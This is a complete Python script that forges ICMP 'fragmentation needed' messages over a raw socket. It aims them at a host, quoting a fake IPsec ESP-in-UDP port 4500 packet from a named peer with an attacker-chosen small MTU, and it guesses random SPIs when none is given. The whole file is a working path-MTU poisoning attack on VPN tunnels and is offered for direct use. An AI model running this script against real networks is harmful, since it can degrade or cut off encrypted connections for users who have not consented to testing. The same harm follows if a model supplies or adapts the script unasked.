#!/usr/bin/env python3
"""too_big.py PEER TO MTU COUNT [SPI]: forged "fragmentation needed" for TO about its ESP in UDP 4500 to PEER; without SPI guesses."""
import random
import socket
import struct
import sys

peer, to, mtu, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for _ in range(count):
    spi = int(sys.argv[5], 16) if len(sys.argv) > 5 else random.randrange(256, 1 << 32)
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1500, 1, 0x4000, 60, 17, 0, socket.inet_aton(to), socket.inet_aton(peer))
    quoted += struct.pack("!HHHHII", 4500, 4500, 1480, 0, spi, 7)
    head = struct.pack("!BBHHH", 3, 4, 0, 0, mtu)
    raw.sendto(struct.pack("!BBHHH", 3, 4, checksum(head + quoted), 0, mtu) + quoted, (to, 0))
